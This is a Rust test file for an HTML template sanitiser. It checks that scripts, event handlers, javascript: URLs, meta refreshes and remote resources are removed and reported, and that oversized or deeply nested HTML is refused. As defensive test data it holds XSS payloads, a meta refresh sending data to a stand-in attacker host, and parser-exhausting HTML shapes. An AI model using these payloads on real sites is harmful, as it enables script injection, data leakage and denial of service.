//! Template sanitising: what is removed is reported where it was, the result is safe, and
//! bindings and fields must name the prompt's variables.

use promptdeck_compiler::{Compiler, UiSource, rules};
use promptdeck_core::{ComponentType, ValidationIssue};

fn sanitise(html: &str, vars: Option<&[String]>) -> (String, Vec<ValidationIssue>) {
    let src = UiSource {
        component_type: ComponentType::Template,
        code: html,
        props_schema: None,
        default_props: None,
        prompt_variables: vars,
    };
    let compiled = Compiler::new(0).compile(&src).expect("templates always compile to safe HTML");
    assert_eq!(compiled.report.validated, compiled.report.validation_errors.is_empty());
    (compiled.code.clone(), compiled.report.validation_errors.clone())
}

fn vars(names: &[&str]) -> Vec<String> {
    names.iter().map(|s| s.to_string()).collect()
}

#[test]
fn a_plain_form_template_is_kept_and_valid() {
    let html = r#"<form class="card">
  <label for="t">Topic</label>
  <input id="t" name="topic" type="text" value="{{topic}}" placeholder="A topic" required>
  <select name="style"><option value="short" selected>Short</option></select>
  <textarea name="notes" rows="3"></textarea>
  <button type="submit">Run</button>
  <p style="color: red; margin: 0 auto">{{ response }}</p>
  <output name="response"></output>
  <a href="https://example.com/help">help</a>
</form>"#;
    let (out, issues) = sanitise(html, Some(&vars(&["topic", "style", "notes"])));
    assert!(issues.is_empty(), "{issues:#?}");
    for kept in [
        "<form class=\"card\">",
        "name=\"topic\"",
        "value=\"{{topic}}\"",
        "placeholder=\"A topic\"",
        "<select name=\"style\">",
        "<textarea name=\"notes\" rows=\"3\">",
        "style=\"color: red; margin: 0 auto\"",
        "{{ response }}",
        "href=\"https://example.com/help\"",
    ] {
        assert!(out.contains(kept), "missing {kept} in {out}");
    }
}

#[test]
fn scripts_and_event_handlers_are_removed_and_reported_where_they_were() {
    let html = "<div>\n  <script>alert(1)</script>\n  <button onclick=\"steal()\">x</button>\n</div>";
    let (out, issues) = sanitise(html, None);
    assert!(!out.contains("script") && !out.contains("alert") && !out.contains("onclick"), "{out}");
    assert!(out.contains("<button>x</button>"), "{out}");
    let got: Vec<(&str, u32, u32)> = issues.iter().map(|i| (i.rule.as_str(), i.line, i.column)).collect();
    assert_eq!(got, vec![(rules::UNSAFE_HTML, 2, 3), (rules::UNSAFE_HTML, 3, 11)], "{issues:#?}");
}

#[test]
fn a_meta_refresh_is_removed_and_reported_as_navigation() {
    let html = "<p>hi</p>\n<META HTTP-EQUIV=\"refresh\" content=\"0;url=https://evil.example/?d=x\">";
    let (out, issues) = sanitise(html, None);
    assert!(!out.to_ascii_lowercase().contains("meta") && !out.contains("evil"), "{out}");
    let got: Vec<(&str, u32, u32)> = issues.iter().map(|i| (i.rule.as_str(), i.line, i.column)).collect();
    assert_eq!(got, vec![(rules::NO_NAVIGATION, 2, 1)], "{issues:#?}");
}

#[test]
fn script_urls_remote_resources_and_style_urls_are_removed() {
    let cases: &[(&str, u32, &str)] = &[
        ("<a href=\"javascript:alert(1)\">x</a>", 4, "javascript"),
        ("<a href=\"&#106;avascript:alert(1)\">x</a>", 4, "avascript"),
        ("<img src=\"https://evil.example/pixel.png\" alt=\"p\">", 6, "evil.example"),
        ("<img src=\"/relative.png\">", 6, "relative"),
        ("<div style=\"background: url(https://evil.example/x)\">a</div>", 6, "evil.example"),
        ("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", 1, "evil.example"),
        ("<iframe src=\"https://evil.example\"></iframe>", 1, "evil.example"),
        ("<object data=\"https://evil.example/x.swf\"></object>", 1, "evil.example"),
        ("<style>body { background: url(https://evil.example) }</style>", 1, "evil.example"),
        ("<input name=\"x\" formaction=\"https://evil.example\">", 17, "evil.example"),
    ];
    for (html, column, gone) in cases {
        let (out, issues) = sanitise(html, None);
        assert!(!out.contains(gone), "`{html}` kept `{gone}`: {out}");
        assert_eq!(issues.len(), 1, "`{html}`: {issues:#?}");
        assert_eq!(
            (issues[0].rule.as_str(), issues[0].line, issues[0].column),
            (rules::UNSAFE_HTML, 1, *column),
            "`{html}`"
        );
    }
}

#[test]
fn inline_data_images_and_links_survive() {
    let (out, issues) =
        sanitise("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\"><a href=\"#top\">up</a>", None);
    assert!(issues.is_empty(), "{issues:#?}");
    assert!(out.contains("data:image/png;base64,iVBORw0KGgo=") && out.contains("href=\"#top\""), "{out}");
}

#[test]
fn bindings_and_fields_naming_unknown_variables_are_reported() {
    let html = "<p>{{topic}} and {{ tone }}</p>\n<input name=\"topic\">\n<textarea name=\"length\"></textarea>\n<p>{{response}}</p>";
    let (_, issues) = sanitise(html, Some(&vars(&["topic"])));
    let got: Vec<(&str, u32, u32)> = issues.iter().map(|i| (i.rule.as_str(), i.line, i.column)).collect();
    assert_eq!(got, vec![(rules::UNKNOWN_VARIABLE, 1, 18), (rules::UNKNOWN_VARIABLE, 3, 11)], "{issues:#?}");
    assert!(issues[0].message.contains("tone") && issues[1].message.contains("length"));
}

#[test]
fn without_the_prompts_variables_bindings_are_not_judged() {
    let (_, issues) = sanitise("<p>{{anything}}</p><input name=\"other\">", None);
    assert!(issues.is_empty(), "{issues:#?}");
}

/// The one issue of a template that crossed a bound.
fn refused(html: &str) -> ValidationIssue {
    assert!(html.len() <= promptdeck_compiler::MAX_CODE_BYTES);
    let src = UiSource {
        component_type: ComponentType::Template,
        code: html,
        props_schema: None,
        default_props: None,
        prompt_variables: None,
    };
    let error = Compiler::new(0).compile(&src).expect_err("a template over a bound does not compile");
    let [issue] = error.report().validation_errors.as_slice() else { panic!("{error}") };
    issue.clone()
}

#[test]
fn each_quadratic_shape_of_html_is_refused_at_the_tag_that_crosses_its_bound() {
    use promptdeck_compiler::{MAX_TEMPLATE_ATTRIBUTES, MAX_TEMPLATE_DEPTH};
    let depth = MAX_TEMPLATE_DEPTH;
    let cases: Vec<(&str, String, &str, u32)> = vec![
        ("nested blocks", "<div>".repeat(100_000), rules::TOO_DEEP, 5 * depth as u32 + 1),
        ("nested formatting elements", "<b><i>".repeat(40_000), rules::TOO_DEEP, 3 * depth as u32 + 1),
        ("nested tables", "<table><tr><td>".repeat(20_000), rules::TOO_DEEP, 0),
        ("nested lists", "<ul><li>".repeat(40_000), rules::TOO_DEEP, 4 * depth as u32 + 1),
        ("unclosed paragraphs of spans", "<p><span>".repeat(50_000), rules::TOO_LARGE, 0),
        (
            "formatting elements left open by blocks",
            (0..5_000).map(|i| format!("<div><b class=b{i}><i class=i{i}></div>")).collect(),
            rules::TOO_LARGE,
            0,
        ),
        (
            "formatting elements re-opened for every paragraph",
            format!(
                "<p>{}{}",
                (0..200).map(|i| format!("<b id=b{i}>")).collect::<String>(),
                "</p><p>x".repeat(20_000)
            ),
            rules::TOO_LARGE,
            0,
        ),
        ("identical formatting elements", "<b class=x>".repeat(20_000), rules::TOO_DEEP, 0),
        (
            "foster-parented elements",
            format!("<table>{}", "<span>x</span>".repeat(36_000)),
            rules::TOO_LARGE,
            0,
        ),
        ("misnested links", "<a><div>x</a>".repeat(30_000), rules::TOO_DEEP, 0),
        (
            "one tag with many attributes",
            format!("<p {}>", (0..50_000).map(|i| format!("a{i} ")).collect::<String>()),
            rules::TOO_LARGE,
            1,
        ),
        (
            "attributes after a hidden tag",
            format!("<i title='<p {}'>", "a ".repeat(MAX_TEMPLATE_ATTRIBUTES + 1)),
            rules::TOO_LARGE,
            11,
        ),
        ("many tags", "<br>".repeat(60_000), rules::TOO_LARGE, 0),
        ("many elements", "<i></i>".repeat(70_000), rules::TOO_LARGE, 0),
    ];
    for (shape, html, rule, column) in cases {
        let issue = refused(&html);
        assert_eq!((issue.rule.as_str(), issue.line), (rule, 1), "{shape}: {issue:#?}");
        if column > 0 {
            assert_eq!(issue.column, column, "{shape}: {issue:#?}");
        }
        assert!(!issue.message.is_empty());
    }
}

#[test]
fn a_large_ordinary_template_is_sanitised() {
    let rows: String =
        (0..2_000).map(|i| format!("<tr><td><b>{i}</b></td><td><a href='#r{i}'>row</a></td></tr>")).collect();
    let html = format!("<form><table>{rows}</table><output>{{{{response}}}}</output></form>");
    let (out, issues) = sanitise(&html, None);
    assert!(issues.is_empty(), "{issues:#?}");
    assert!(out.contains("<td><b>1999</b></td>"));
}
